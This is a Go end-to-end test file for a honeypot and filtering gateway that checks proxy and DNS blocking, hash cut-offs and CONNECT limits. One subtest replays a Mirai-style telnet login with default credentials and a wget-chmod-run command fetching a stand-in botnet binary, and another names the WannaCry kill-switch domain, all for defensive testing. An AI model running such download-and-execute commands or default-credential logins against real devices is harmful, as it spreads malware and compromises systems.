package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	mdns "github.com/miekg/dns"
)

// The gateway from the outside: the real binary with its proxy and DNS
// listeners, real clients (curl, dig, Go's HTTP client, miekg/dns), local
// origins and a local upstream resolver on loopback.

// gatewayServer starts honeygate with the proxy and DNS filter on loopback
// port 0, upstream resolver upstream, and extra YAML for the gateway section.
func gatewayServer(t *testing.T, upstream, extraGateway string) *server {
	t.Helper()
	data := t.TempDir()
	cfg := filepath.Join(data, "config.yaml")
	yaml := "gateway:\n  upstreams: [\"" + upstream + "\"]\n  kill_switch_address: 192.0.2.80\n" + extraGateway
	if err := os.WriteFile(cfg, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	return startServer(t, data, "--config", cfg,
		"--listen", "web=127.0.0.1:0", "--listen", "telnet=127.0.0.1:0",
		"--listen", "proxy=127.0.0.1:0", "--listen", "dns=127.0.0.1:0",
		"--allow-private-upstream")
}

func (s *server) proxy() string { return s.addrs["proxy"][0] }
func (s *server) dns() string   { return s.addrs["dns"][0] }

// addIndicator posts one indicator through the API.
func (s *server) addIndicator(typ, value, category string) {
	s.t.Helper()
	body, _ := json.Marshal(map[string]string{"type": typ, "value": value, "category": category, "source": "manual"})
	req, _ := http.NewRequest(http.MethodPost, s.apiURL("/api/v1/intel", nil), bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+testToken)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode/100 != 2 {
		s.t.Fatalf("POST /api/v1/intel %s %s: %d %s", typ, value, resp.StatusCode, b)
	}
}

// proxyClient is Go's HTTP client through the proxy.
func (s *server) proxyClient() *http.Client {
	pu, _ := url.Parse("http://" + s.proxy())
	return &http.Client{Timeout: 60 * time.Second, Transport: &http.Transport{Proxy: http.ProxyURL(pu), DisableCompression: true}}
}

type gwEvent struct {
	ID            string `json:"id"`
	Kind          string `json:"kind"`
	SrcIP         string `json:"src_ip"`
	Host          string `json:"host"`
	URL           string `json:"url"`
	SNI           string `json:"sni"`
	Category      string `json:"category"`
	Indicator     string `json:"indicator"`
	IndicatorType string `json:"indicator_type"`
	IntelSource   string `json:"intel_source"`
	Ref           string `json:"ref"`
	Enforcer      string `json:"enforcer"`
	Action        string `json:"action"`
}

func (s *server) gatewayEvents(kind string) []gwEvent {
	s.t.Helper()
	var resp struct{ Events []gwEvent }
	if code := s.get("/api/v1/events", url.Values{"kind": {kind}, "limit": {"10000"}}, testToken, &resp); code != http.StatusOK {
		s.t.Fatalf("events: %d", code)
	}
	return resp.Events
}

func (s *server) waitEvent(kind string, match func(gwEvent) bool) gwEvent {
	s.t.Helper()
	var found gwEvent
	waitFor(s.t, kind+" event", 30*time.Second, func() bool {
		for _, e := range s.gatewayEvents(kind) {
			if match(e) {
				found = e
				return true
			}
		}
		return false
	})
	return found
}

// startResolver is the upstream: every A question gets 192.0.2.1.
func startResolver(t *testing.T) string {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &mdns.Server{PacketConn: pc, Handler: mdns.HandlerFunc(func(w mdns.ResponseWriter, r *mdns.Msg) {
		m := new(mdns.Msg)
		m.SetReply(r)
		if q := r.Question[0]; q.Qtype == mdns.TypeA {
			m.Answer = []mdns.RR{&mdns.A{Hdr: mdns.RR_Header{Name: q.Name, Rrtype: mdns.TypeA, Class: mdns.ClassINET, Ttl: 300}, A: net.IPv4(192, 0, 2, 1)}}
		}
		_ = w.WriteMsg(m)
	})}
	go func() { _ = srv.ActivateAndServe() }()
	t.Cleanup(func() { _ = srv.Shutdown() })
	return pc.LocalAddr().String()
}

func TestGatewayProxy(t *testing.T) {
	payload := make([]byte, 3<<20)
	_, _ = rand.Read(payload)
	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/payload.bin":
			w.Header().Set("Content-Type", "application/octet-stream")
			_, _ = w.Write(payload)
		default:
			_, _ = io.WriteString(w, "hello from the origin "+r.URL.Path)
		}
	}))
	defer origin.Close()
	// CONNECT goes only to gateway.connect_ports (default 443): the local
	// TLS origin's port is listed, the plain origin's is not.
	tlsOrigin := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "secret over tls")
	}))
	defer tlsOrigin.Close()
	_, tlsPort, _ := net.SplitHostPort(tlsOrigin.Listener.Addr().String())
	srv := gatewayServer(t, startResolver(t), "  connect_ports: [443, "+tlsPort+"]\n")

	t.Run("curl byte for byte", func(t *testing.T) {
		curl, err := exec.LookPath("curl")
		if err != nil {
			t.Skip("no curl")
		}
		out := filepath.Join(t.TempDir(), "payload.bin")
		cmd := exec.Command(curl, "-sS", "--fail", "-x", "http://"+srv.proxy(), "-o", out, "-D", "-", origin.URL+"/payload.bin")
		hdr, err := cmd.Output()
		if err != nil {
			t.Fatalf("curl: %v", err)
		}
		got, _ := os.ReadFile(out)
		if !bytes.Equal(got, payload) {
			t.Fatalf("curl got %d bytes, sha256 %x; want %d, %x", len(got), sha256.Sum256(got), len(payload), sha256.Sum256(payload))
		}
		if !strings.Contains(string(hdr), "Via: 1.1 honeygate") {
			t.Errorf("no Via in\n%s", hdr)
		}
	})

	t.Run("block page and event", func(t *testing.T) {
		s := srv.with(t)
		s.addIndicator("domain", "blocked-by-e2e.test", "phishing")
		var resp *http.Response
		waitFor(t, "the indicator enforced", 5*time.Second, func() bool {
			req, _ := http.NewRequest("GET", "http://login.blocked-by-e2e.test/account", nil)
			req.Header.Set("Accept-Language", "ja-JP,ja;q=0.9,en;q=0.5")
			r, err := s.proxyClient().Do(req)
			if err != nil {
				t.Fatal(err)
			}
			if r.StatusCode == http.StatusForbidden {
				resp = r
				return true
			}
			r.Body.Close()
			return false
		})
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		ref := resp.Header.Get("X-Honeygate-Ref")
		if ref == "" || !strings.Contains(string(body), ref) || !strings.Contains(string(body), "フィッシング") || !strings.Contains(string(body), "blocked-by-e2e.test") {
			t.Fatalf("block page (ref %q):\n%s", ref, body)
		}
		ev := s.waitEvent("gateway.block", func(e gwEvent) bool { return e.Ref == ref })
		if ev.Host != "login.blocked-by-e2e.test" || ev.Category != "phishing" || ev.Indicator != "blocked-by-e2e.test" ||
			ev.IndicatorType != "domain" || ev.Enforcer != "proxy" || ev.Action != "block" || ev.SrcIP != "127.0.0.1" ||
			ev.URL != "http://login.blocked-by-e2e.test/account" {
			t.Fatalf("event %+v", ev)
		}
	})

	t.Run("indicator enforced within one second", func(t *testing.T) {
		s := srv.with(t)
		target := origin.URL + "/late-listing"
		r, err := s.proxyClient().Get(target)
		if err != nil {
			t.Fatal(err)
		}
		r.Body.Close()
		if r.StatusCode != 200 {
			t.Fatalf("before listing: %d", r.StatusCode)
		}
		s.addIndicator("url", target, "malware-download")
		listed := time.Now()
		for {
			r, err := s.proxyClient().Get(target)
			if err != nil {
				t.Fatal(err)
			}
			r.Body.Close()
			if r.StatusCode == http.StatusForbidden {
				break
			}
			if time.Since(listed) > time.Second {
				t.Fatalf("still %d %v after the API accepted the indicator", r.StatusCode, time.Since(listed))
			}
			time.Sleep(20 * time.Millisecond)
		}
		t.Logf("enforced %v after the API answered", time.Since(listed).Round(time.Millisecond))
	})

	t.Run("download cut off by hash", func(t *testing.T) {
		s := srv.with(t)
		sum := sha256.Sum256(payload)
		s.addIndicator("sha256", hex.EncodeToString(sum[:]), "malware-download")
		waitFor(t, "the hash enforced", 10*time.Second, func() bool {
			r, err := s.proxyClient().Get(origin.URL + "/payload.bin")
			if err != nil {
				return false
			}
			got, err := io.ReadAll(r.Body)
			r.Body.Close()
			return err != nil && len(got) < len(payload)
		})
		s.waitEvent("gateway.block", func(e gwEvent) bool {
			return e.IndicatorType == "sha256" && e.URL == origin.URL+"/payload.bin"
		})
	})

	t.Run("connect to a local TLS origin", func(t *testing.T) {
		curl, err := exec.LookPath("curl")
		if err != nil {
			t.Skip("no curl")
		}
		s := srv.with(t)
		port := tlsPort
		out, err := exec.Command(curl, "-sS", "-k", "--proxy", "http://"+s.proxy(), tlsOrigin.URL+"/").CombinedOutput()
		if err != nil || string(out) != "secret over tls" {
			t.Fatalf("tunnel: %v %q", err, out)
		}
		s.addIndicator("domain", "fronted-e2e.test", "c2")
		time.Sleep(time.Second)
		// The CONNECT host is listed: 403.
		out, err = exec.Command(curl, "-sS", "-k", "--proxy", "http://"+s.proxy(), "https://www.fronted-e2e.test:"+port+"/").CombinedOutput()
		if err == nil || !strings.Contains(string(out), "403") {
			t.Fatalf("listed CONNECT host: %v %q", err, out)
		}
		// An innocent CONNECT host with a listed SNI: a TLS alert.
		out, err = exec.Command(curl, "-sS", "-k", "--proxy", "http://"+s.proxy(),
			"--connect-to", "cdn.fronted-e2e.test:"+port+":127.0.0.1:"+port, "https://cdn.fronted-e2e.test:"+port+"/").CombinedOutput()
		if err == nil || strings.Contains(string(out), "secret") {
			t.Fatalf("listed SNI: %v %q", err, out)
		}
		s.waitEvent("gateway.block", func(e gwEvent) bool { return e.SNI == "cdn.fronted-e2e.test" && e.Indicator == "fronted-e2e.test" })
	})

	t.Run("connect to a port outside connect_ports", func(t *testing.T) {
		s := srv.with(t)
		// A local service the tunnel must never reach.
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		reached := make(chan struct{}, 1)
		go func() {
			if c, err := ln.Accept(); err == nil {
				reached <- struct{}{}
				c.Close()
			}
		}()
		target := ln.Addr().String()
		c, err := net.Dial("tcp", s.proxy())
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
		resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		_, lport, _ := net.SplitHostPort(target)
		if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Honeygate-Reason") != "connect-port" ||
			!strings.Contains(string(body), "port "+lport) || !strings.Contains(string(body), "connect_ports") {
			t.Fatalf("CONNECT to an unlisted port: %s %q %q", resp.Status, resp.Header, body)
		}
		select {
		case <-reached:
			t.Fatal("the refused CONNECT reached the local service")
		case <-time.After(200 * time.Millisecond):
		}
		// Counted under its own reason, not as a block.
		if v := metricValue(t, s, `honeygate_gateway_decisions_total{enforcer="proxy",reason="connect-port",verdict="refuse"}`); v != 1 {
			t.Errorf("connect-port refusals counted: %v, want 1", v)
		}
		if v := metricValue(t, s, `honeygate_gateway_decisions_total{enforcer="proxy",reason="connect-port",verdict="block"}`); v != 0 {
			t.Errorf("connect-port counted as a block: %v", v)
		}
	})

	t.Run("blocks per day", func(t *testing.T) {
		s := srv.with(t)
		today := time.Now().UTC().Format(time.DateOnly)
		var daily struct {
			Days []struct {
				Day     string `json:"day"`
				Blocks  int64  `json:"blocks"`
				Clients int64  `json:"clients"`
			} `json:"days"`
		}
		waitFor(t, "blocks counted", 30*time.Second, func() bool {
			if code := s.get("/api/v1/blocks/daily", url.Values{"from": {today}, "to": {today}}, testToken, &daily); code != 200 {
				t.Fatalf("blocks/daily: %d", code)
			}
			return len(daily.Days) == 1 && daily.Days[0].Blocks >= 3
		})
		if d := daily.Days[0]; d.Day != today || d.Clients != 1 {
			t.Fatalf("daily %+v", daily)
		}
		var top struct {
			Top []struct {
				Key    string `json:"key"`
				Blocks int64  `json:"blocks"`
			} `json:"top"`
		}
		if code := s.get("/api/v1/blocks/top", url.Values{"by": {"category"}, "from": {today}, "to": {today}}, testToken, &top); code != 200 || len(top.Top) == 0 {
			t.Fatalf("blocks/top: %d %+v", code, top)
		}
		// The decisions are counted for monitoring, by low-cardinality labels.
		mresp, err := http.Get(s.apiURL("/metrics", nil))
		if err != nil {
			t.Fatal(err)
		}
		metrics, _ := io.ReadAll(mresp.Body)
		mresp.Body.Close()
		if !strings.Contains(string(metrics), `honeygate_gateway_decisions_total{enforcer="proxy",reason="intel",verdict="block"}`) {
			t.Errorf("/metrics lacks the proxy's blocks")
		}
		out, code := runCLI(t, []string{"HONEYGATE_TOKEN=" + testToken}, "blocks", "--server", "http://"+s.addrs["web"][0], "--from", today, "--to", today)
		if code != 0 || !strings.Contains(out, today) {
			t.Fatalf("honeygate blocks: %d\n%s", code, out)
		}
	})

	t.Run("worm payload URL blocked", func(t *testing.T) {
		s := srv.with(t)
		// A name, not the origin's address: whatever the host policy of
		// intel (an address host may be listed whole), only this is blocked.
		payloadURL := "http://payload-e2e.test/bins/mirai.arm7"
		c, err := net.Dial("tcp", s.telnet(0))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(30 * time.Second))
		for _, line := range []string{"root", "xc3511", "enable", "sh", "cd /tmp; wget " + payloadURL + " -O m; chmod +x m; ./m", "exit"} {
			fmt.Fprintf(c, "%s\r\n", line)
			time.Sleep(300 * time.Millisecond)
		}
		waitFor(t, "the payload URL blocked at the proxy", 30*time.Second, func() bool {
			r, err := s.proxyClient().Get(payloadURL)
			if err != nil {
				return false
			}
			r.Body.Close()
			return r.StatusCode == http.StatusForbidden
		})
	})

	t.Run("large download streamed without memory growth", func(t *testing.T) {
		if testing.Short() {
			t.Skip("short")
		}
		s := srv.with(t)
		const size = 1 << 30
		big := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Length", strconv.Itoa(size))
			buf := make([]byte, 256<<10)
			for sent := 0; sent < size; sent += len(buf) {
				if _, err := w.Write(buf); err != nil {
					return
				}
			}
		}))
		defer big.Close()
		before := rss(t, s.cmd.Process.Pid)
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		req, _ := http.NewRequestWithContext(ctx, "GET", big.URL+"/1g", nil)
		r, err := s.proxyClient().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		peak := before
		done := make(chan struct{})
		go func() {
			defer close(done)
			for {
				select {
				case <-ctx.Done():
					return
				case <-time.After(100 * time.Millisecond):
				}
				if v := rss(t, s.cmd.Process.Pid); v > peak {
					peak = v
				}
			}
		}()
		n, err := io.Copy(io.Discard, r.Body)
		r.Body.Close()
		cancel()
		<-done
		if err != nil || n != size {
			t.Fatalf("downloaded %d of %d: %v", n, size, err)
		}
		t.Logf("server RSS %d MiB before, %d MiB at peak, for a 1 GiB download", before>>20, peak>>20)
		if peak-before > 64<<20 {
			t.Fatalf("server memory grew by %d MiB while streaming 1 GiB", (peak-before)>>20)
		}
	})
}

// rss is a process's resident memory in bytes.
func rss(t *testing.T, pid int) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Skip("no /proc")
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
			return kb << 10
		}
	}
	return 0
}

func TestGatewayClientOutsideRefused(t *testing.T) {
	srv := gatewayServer(t, startResolver(t), "  client_cidrs: [127.0.0.1/32]\n")
	// From 127.0.0.2: loopback, but not in client_cidrs.
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
	tr := &http.Transport{DialContext: d.DialContext, Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: srv.proxy()})}
	r, err := (&http.Client{Transport: tr, Timeout: 30 * time.Second}).Get("http://example.test/")
	if err != nil {
		t.Fatal(err)
	}
	r.Body.Close()
	if r.StatusCode != http.StatusForbidden {
		t.Fatalf("outsider got %d", r.StatusCode)
	}
	srv.waitEvent("gateway.block", func(e gwEvent) bool { return e.Action == "refuse" && e.SrcIP == "127.0.0.2" })

	// The DNS filter refuses it too.
	c := &mdns.Client{Net: "udp", Timeout: 5 * time.Second, Dialer: &net.Dialer{LocalAddr: &net.UDPAddr{IP: net.IPv4(127, 0, 0, 2)}}}
	q := new(mdns.Msg)
	q.SetQuestion("example.test.", mdns.TypeA)
	resp, _, err := c.Exchange(q, srv.dns())
	if err != nil || resp.Rcode != mdns.RcodeRefused {
		t.Fatalf("dns outsider: %v %v", resp, err)
	}
	// And the allowed client still gets through.
	resp, _, err = (&mdns.Client{Net: "udp", Timeout: 5 * time.Second}).Exchange(q, srv.dns())
	if err != nil || resp.Rcode != mdns.RcodeSuccess {
		t.Fatalf("dns insider: %v %v", resp, err)
	}
}

func TestGatewayDNS(t *testing.T) {
	srv := gatewayServer(t, startResolver(t), "")
	host, port, _ := net.SplitHostPort(srv.dns())
	srv.addIndicator("domain", "dns-blocked-e2e.test", "c2")
	q := func(network, name string) *mdns.Msg {
		m := new(mdns.Msg)
		m.SetQuestion(mdns.Fqdn(name), mdns.TypeA)
		r, _, err := (&mdns.Client{Net: network, Timeout: 5 * time.Second}).Exchange(m, srv.dns())
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	waitFor(t, "the domain blocked", 5*time.Second, func() bool { return q("udp", "beacon.dns-blocked-e2e.test").Rcode == mdns.RcodeNameError })
	if r := q("tcp", "beacon.dns-blocked-e2e.test"); r.Rcode != mdns.RcodeNameError {
		t.Fatalf("tcp: %v", r)
	}
	if r := q("udp", "www.example.org"); r.Rcode != 0 || len(r.Answer) != 1 {
		t.Fatalf("allowed: %v", r)
	}
	srv.waitEvent("gateway.block", func(e gwEvent) bool {
		return e.Enforcer == "dns" && e.Host == "beacon.dns-blocked-e2e.test" && e.Action == "nxdomain" && e.Indicator == "dns-blocked-e2e.test"
	})

	if dig, err := exec.LookPath("dig"); err == nil {
		for _, extra := range [][]string{nil, {"+tcp"}} {
			args := append([]string{"@" + host, "-p", port, "+tries=1", "+time=5"}, extra...)
			out, err := exec.Command(dig, append(args, "x.dns-blocked-e2e.test", "A")...).CombinedOutput()
			if err != nil || !strings.Contains(string(out), "status: NXDOMAIN") {
				t.Fatalf("dig %v blocked: %v\n%s", extra, err, out)
			}
			out, err = exec.Command(dig, append(args, "+short", "allowed.example", "A")...).CombinedOutput()
			if err != nil || strings.TrimSpace(string(out)) != "192.0.2.1" {
				t.Fatalf("dig %v allowed: %v\n%s", extra, err, out)
			}
		}
	}

	// WannaCry's kill switch resolves, and the asker is reported.
	if r := q("udp", "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com"); r.Rcode != 0 || len(r.Answer) != 1 {
		t.Fatalf("kill switch: %v", r)
	}
	srv.waitEvent("gateway.infected_host", func(e gwEvent) bool {
		return e.Host == "www.iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea.com" && e.SrcIP == "127.0.0.1"
	})
}

// The decrypting mode (block-only): curl with the gateway CA sees the block
// page inside HTTPS; without it, a certificate error.
func TestGatewayDecryptBlockOnly(t *testing.T) {
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("no curl")
	}
	srv := gatewayServer(t, startResolver(t), "  default:\n    decrypt: block-only\n")
	srv.addIndicator("domain", "tls-blocked-e2e.test", "phishing")
	ca := filepath.Join(srv.data, "gateway-ca", "ca.pem")
	var out []byte
	waitFor(t, "the block page inside HTTPS", 10*time.Second, func() bool {
		out, _ = exec.Command(curl, "-sS", "--cacert", ca, "--proxy", "http://"+srv.proxy(), "-H", "Accept-Language: en",
			"https://www.tls-blocked-e2e.test/account").CombinedOutput()
		return strings.Contains(string(out), "Access blocked")
	})
	if !strings.Contains(string(out), "https://www.tls-blocked-e2e.test/account") || !strings.Contains(string(out), "tls-blocked-e2e.test") {
		t.Fatalf("block page:\n%s", out)
	}
	out, err = exec.Command(curl, "-sS", "--proxy", "http://"+srv.proxy(), "https://www.tls-blocked-e2e.test/").CombinedOutput()
	if err == nil || strings.Contains(string(out), "Access blocked") {
		t.Fatalf("without the CA: %v\n%s", err, out)
	}
}
